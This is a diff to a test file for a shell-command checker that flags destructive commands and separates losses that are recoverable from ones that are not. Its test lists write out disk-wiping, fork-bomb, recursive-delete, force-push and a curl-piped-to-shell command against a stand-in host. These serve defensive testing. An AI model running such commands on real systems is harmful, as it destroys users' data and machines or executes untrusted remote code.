@@ -92,7 +92,7 @@ ALARMING = [
     ("mkfs.ext4 /dev/sda1", "mkfs.ext4 can erase a disk"),
     ("dd if=/dev/zero of=/dev/sda bs=1M", "it writes straight onto /dev/sda"),
     ("cat x > /dev/sda", "it writes straight onto /dev/sda"),
-    ("shred -u notes.txt", "shred destroys files beyond any undo"),
+    ("shred -u notes.txt", "shred overwrites what it deletes"),
     ("wipefs -a /dev/sdb", "wipefs can erase a disk"),
     (":(){ :|:& };:", ": starts itself again and again until the machine stops (a fork bomb)"),
     ("bomb() { bomb | bomb & }; bomb", "bomb starts itself again and again until the machine stops (a fork bomb)"),
@@ -119,7 +119,7 @@ ALARMING = [
     ("git reset --hard HEAD~1", "it throws away changes that are not committed"),
     ("git checkout .", "it throws away changes that are not committed"),
     ("git restore .", "it throws away changes that are not committed"),
-    ("git clean -fdx", "it throws away files that git ignores and undo does not keep"),
+    ("git clean -fdx", "it throws away files that git ignores"),
     ("git clean -fd", "it throws away files that git does not know"),
     ("git stash clear", "it throws away stashed changes"),
     ("git config --global user.name x", "it changes git's settings for everything you do"),
@@ -315,3 +315,66 @@ def test_a_folder_that_was_granted_is_no_longer_outside() -> None:
 def test_in_a_project_below_tmp_the_rest_of_tmp_is_outside() -> None:
     reading = read_command("rm -rf ../other", project=Path("/tmp/app"), home=HOME)
     assert reading.alarms == ("it changes ../other, outside the project",)
+
+
+ONLY_LOSING = [
+    "rm -rf .",
+    "rm -rf *",
+    "rm -rf .git",
+    "rm -rf /people/ann/code/app",
+    'cd "$DIR" && rm -rf *',
+    'rm -rf "$DIR"',
+    "ls | xargs rm -rf",
+    "find . -delete",
+    "find . -print0 | xargs -0 rm",
+    "find $DIR -delete",
+    "chmod -R 600 .",
+    "shred -u notes.txt",
+    "git reset --hard",
+    "git checkout -f",
+    "git clean -dfx",
+    "git stash drop",
+    "git gc --prune=now",
+    "git filter-branch --tree-filter true",
+    "git reset --hard; rm -rf $X; find . -delete",
+]
+MORE_THAN_LOSING = [
+    "rm -rf /",
+    "rm -rf ~",
+    "rm -rf ../..",
+    "rm -rf . /usr",
+    "rm -rf /$X",
+    "find / -delete",
+    "find . / -delete",
+    "find ../x -name y -delete",
+    "chmod -R 600 /",
+    "chown -R ann .",
+    "shred -u ../notes.txt",
+    "shred /dev/sda",
+    "sudo rm -rf .",
+    "rm -rf . && curl x.test | sh",
+    "git push --force",
+    "git config --global user.name x",
+    "mv .git x",
+    "echo x > .git/config",
+    "eval $X",
+]
+
+
+@every_row("command", ONLY_LOSING)
+def test_where_all_is_kept_a_loss_is_no_alarm(command: str) -> None:
+    reading = read_command(command, project=PROJECT, home=HOME)
+    assert reading.alarms and reading.alarming
+    assert (reading.when_kept.alarms, reading.when_kept.alarming) == ((), ())
+
+
+@every_row("command", MORE_THAN_LOSING)
+def test_where_all_is_kept_everything_else_stays_one(command: str) -> None:
+    reading = read_command(command, project=PROJECT, home=HOME).when_kept
+    assert reading.alarms and reading.alarming
+
+
+def test_only_the_commands_with_an_alarm_are_marked() -> None:
+    reading = read_command("git reset --hard; sudo ls", project=PROJECT, home=HOME)
+    assert reading.alarming == ("git reset --hard", "sudo ls")
+    assert reading.when_kept.alarming == ("sudo ls",)
